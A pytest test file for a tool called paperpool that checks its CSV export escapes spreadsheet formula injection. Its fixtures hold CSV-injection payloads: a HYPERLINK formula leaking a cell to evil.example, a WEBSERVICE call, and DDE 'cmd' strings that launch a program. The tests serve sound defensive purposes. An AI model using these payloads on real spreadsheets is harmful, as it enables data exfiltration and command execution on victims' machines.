"""Every CSV paperpool writes is safe to open in a spreadsheet (issue 39): no cell starts
with what a spreadsheet runs as a formula (= + - @, a leading tab or carriage return),
nor does any part of one where a spreadsheet of another locale may start a cell (after a
semicolon, a tab or a line break), and paperpool reads each cell back to the text it was
written from, so that `export` then `import-csv` gives back the same records."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from paperpool.files import csvcells

from ..conftest import REPO
from ..spreadsheets import runnable, runnable_cells

SWARM = REPO / "traces" / "swarm-six-workers.json"
FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?"&A1,"Click for the paper")',
    "affiliation": "@SUM(1+1)*cmd|' /C calc'!A0",
    "venue": "-2+3+cmd|' /C calc'!A0",
    "summary": "+1 then; =2, and in a list: \n@3",
    "notes": "'=a text that starts with a quote and an equals sign",
}


# texts made mostly of what the rule is about, and some of anything
TEXTS = st.text(alphabet=st.sampled_from(list("=+-@'\"\t\r\n; \u00a0a1.e")) | st.characters(), max_size=30)


@pytest.mark.slow
@settings(max_examples=2000)
@given(TEXTS)
def test_a_text_reads_back_from_its_cell_exactly(text):
    assert csvcells.read(csvcells.text(text)) == text


@pytest.mark.slow
@settings(max_examples=2000)
@given(TEXTS)
def test_no_cell_holds_a_start_a_spreadsheet_runs(text):
    assert runnable(csvcells.text(text)) == []


@given(
    st.lists(
        st.lists(TEXTS | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.none(), min_size=1, max_size=4),
        max_size=4,
    )
)
def test_a_table_reads_back_through_a_csv_reader(rows):
    text = csvcells.table(rows)
    assert runnable_cells(text) == []
    read = [[csvcells.read(cell) for cell in row] for row in csv.reader(io.StringIO(text, newline=""))]
    assert read == [["" if v is None else v if isinstance(v, str) else str(v) for v in row] for row in rows]


def test_what_is_quoted_and_what_is_not():
    assert {
        value: csvcells.text(value)
        for value in (
            "=1+1",
            "+1",
            "-x",
            "@x",
            "\tx",
            "\rx",
            " =x",
            '"=x"',
            "'=x",
            "''=x",
            "a;=b",
            "a\n-b",
            "a\t@b",
            "-1",
            "-0.5",
            "+3",
            "-1e5",
            "'Tis",
            "Foo - bar",
            "a;b",
            "x'=y",
            "1-2",
        )
    } == {
        "=1+1": "'=1+1",
        "+1": "+1",
        "-x": "'-x",
        "@x": "'@x",
        "\tx": "'\tx",
        "\rx": "'\rx",
        " =x": "' =x",
        '"=x"': '\'"=x"',
        "'=x": "''=x",
        "''=x": "'''=x",
        "a;=b": "a;'=b",
        "a\n-b": "a\n'-b",
        "a\t@b": "a\t'@b",
        "-1": "-1",
        "-0.5": "-0.5",
        "+3": "+3",
        "-1e5": "-1e5",
        "'Tis": "'Tis",
        "Foo - bar": "Foo - bar",
        "a;b": "a;b",
        "x'=y": "x'=y",
        "1-2": "1-2",
    }
    # numbers the writer formats are numbers; only one past a double's range is text
    assert [csvcells.cell(v) for v in (-0.5, -3, True, None, float("-inf"), float("nan"))] == [
        "-0.5",
        "-3",
        "true",
        "",
        "'-inf",
        "nan",
    ]
    # a cell written by hand with a quote before a formula is read as the formula's text
    assert csvcells.read("'=SUM(A1)") == "=SUM(A1)" and csvcells.read("'Tis") == "'Tis"


# ---------------------------------------------------------------------------------
# The commands
# ---------------------------------------------------------------------------------


def _formula_pool(root: Path) -> Path:
    """The shipped pool copy with formulas in an entry's texts and an exclusion's."""
    path = root / "papers" / "magrpo.yaml"
    record = yaml.safe_load(path.read_text(encoding="utf-8"))
    record |= FORMULAS
    record["authors"] = ["=Liu, Shuo", *record["authors"][1:], "-Doe, Jane"]
    path.write_text(yaml.safe_dump(record, allow_unicode=True, sort_keys=False), encoding="utf-8")
    path = root / "exclusions" / "e001.yaml"
    record = yaml.safe_load(path.read_text(encoding="utf-8"))
    record |= {"title": '=WEBSERVICE("https://evil.example")', "reason": "@x; -y"}
    path.write_text(yaml.safe_dump(record, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return root


@pytest.mark.slow
def test_export_writes_formulas_as_text_and_import_csv_reads_them_back(run, pool_copy, empty_pool, tmp_path):
    _formula_pool(pool_copy)
    assert run("validate", cwd=pool_copy).exit_code == 0
    for args, name in ((("export",), "entries.csv"), (("export", "--exclusions"), "exclusions.csv")):
        exported = run(*args, cwd=pool_copy).output
        assert runnable_cells(exported) == []
        (tmp_path / name).write_text(exported, encoding="utf-8")
        imported = run("import-csv", str(tmp_path / name), *args[1:], cwd=empty_pool)
        assert imported.exit_code == 0, imported.output
        assert run(*args, cwd=empty_pool).output == exported
    entry = yaml.safe_load((empty_pool / "papers" / "magrpo.yaml").read_text(encoding="utf-8"))
    assert {field: entry[field] for field in FORMULAS} == FORMULAS
    assert entry["authors"][0] == "=Liu, Shuo" and entry["authors"][-1] == "-Doe, Jane"
    excluded = yaml.safe_load((empty_pool / "exclusions" / "e001.yaml").read_text(encoding="utf-8"))
    assert (excluded["title"], excluded["reason"]) == ('=WEBSERVICE("https://evil.example")', "@x; -y")
    # publish writes the same CSV
    assert run("publish", cwd=pool_copy).exit_code == 0
    assert runnable_cells((pool_copy / "build" / "entries.csv").read_text(encoding="utf-8")) == []
    # a count by a free-text field has the text as a row
    stats = run("stats", "--by", "venue", "--format", "csv", cwd=pool_copy)
    assert stats.exit_code == 0, stats.output
    assert runnable_cells(stats.output) == [] and "'-2+3+cmd|' /C calc'!A0" in stats.output


def test_trace_metrics_and_summary_write_a_traces_own_text_as_text(run, tmp_path):
    trace = json.loads(SWARM.read_text(encoding="utf-8"))
    texts = {
        "trace_id": '=HYPERLINK("https://evil.example")',
        "task_id": "@SUM(1)",
        "run": "-2+3+cmd|' /C calc'!A0",
        "group": "\t=1+1",
        "system": "a;=b\r@c",
    }
    lines = [json.dumps(trace | texts), json.dumps(trace | {"trace_id": "-1", "run": "+cmd"})]
    (tmp_path / "runs.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = run("trace", "metrics", "runs.jsonl", "--format", "csv", "-o", "rows.csv", cwd=tmp_path)
    assert result.exit_code == 0, result.output
    text = (tmp_path / "rows.csv").read_bytes().decode("utf-8")  # a carriage return in a cell as it is
    assert runnable_cells(text) == []
    rows = [{csvcells.read(k): csvcells.read(v) for k, v in row.items()} for row in csv.DictReader(io.StringIO(text, newline=""))]
    assert {name: rows[0][name] for name in texts} == texts
    assert (rows[1]["trace_id"], rows[1]["run"]) == ("-1", "+cmd")  # a text that is a number stays one
    summary = run("trace", "summary", "runs.jsonl", "--by", "run", "--format", "csv", cwd=tmp_path)
    assert summary.exit_code == 0, summary.output
    table = "".join(line for line in summary.output.splitlines(True) if line != "2 traces: 2 valid, 0 invalid.\n")
    assert runnable_cells(table) == []
    assert {csvcells.read(row["run"]) for row in csv.DictReader(io.StringIO(table))} == {texts["run"], "+cmd"}
